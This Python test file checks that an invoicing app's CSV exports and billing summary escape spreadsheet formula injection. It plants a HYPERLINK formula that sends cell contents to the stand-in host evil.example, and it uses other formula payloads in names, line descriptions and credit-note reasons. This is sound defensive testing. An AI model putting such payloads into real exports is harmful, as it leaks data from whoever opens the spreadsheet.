"""Issue 17, item 5: the invoice exports and the billing-run summary carry no formula."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal
from typing import Any

import pytest

from partnerops.contracts.models import Agreement
from partnerops.crm import services as crm
from partnerops.crm.models import Organization
from partnerops.invoicing import exports, services
from partnerops.invoicing.models import Invoice
from partnerops.invoicing.plan import plan_month
from partnerops.invoicing.run import billing_run, lines_csv
from tests.invoicing.conftest import MONTH, issue

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_no_formula(text: str) -> None:
    for cell in _cells(text):
        if cell[:1] in ("=", "+", "@", "\t", "\r") or (
            cell.startswith("-") and not cell[1:].replace(".", "").isdigit()
        ):
            raise AssertionError(f"formula cell {cell!r}")


@pytest.mark.django_db
def test_invoice_exports_neutralise_names_lines_and_reasons(
    world: dict[str, Agreement], operations_user: Any
) -> None:
    coastal = Organization.objects.get(name="Coastal Ocean")
    crm.organization_update(actor=operations_user, organization=coastal, name=HOSTILE)
    services.manual_charge_add(actor=operations_user, organization=coastal, month=MONTH, kind="adjustment",
                               description="=1+2", quantity=Decimal(1), unit_amount=Decimal("5.00"))  # fmt: skip
    billing_run(actor=None, month=MONTH)
    invoice = issue(Invoice.objects.get(organization=coastal), operations_user)
    services.credit_note_issue(actor=operations_user, invoice=invoice, amount=Decimal("2.00"), reason="@SUM(A1:A9)",
                               issued_on=dt.date(2026, 11, 6))  # fmt: skip
    for layout in ("xero", "generic"):
        text = exports.export_csv(layout, dt.date(2026, 11, 1), dt.date(2026, 11, 30))
        _assert_no_formula(text)
        cells = _cells(text)
        assert "'" + HOSTILE in cells and "'=1+2" in cells
        assert "-2.00" in cells  # the credit note's amount is still a number
    assert "'@SUM(A1:A9)" in _cells(
        exports.export_csv("generic", dt.date(2026, 11, 1), dt.date(2026, 11, 30))
    )
    summary = lines_csv(plan_month(MONTH)).decode()
    _assert_no_formula(summary)
    assert "'" + HOSTILE in _cells(summary)
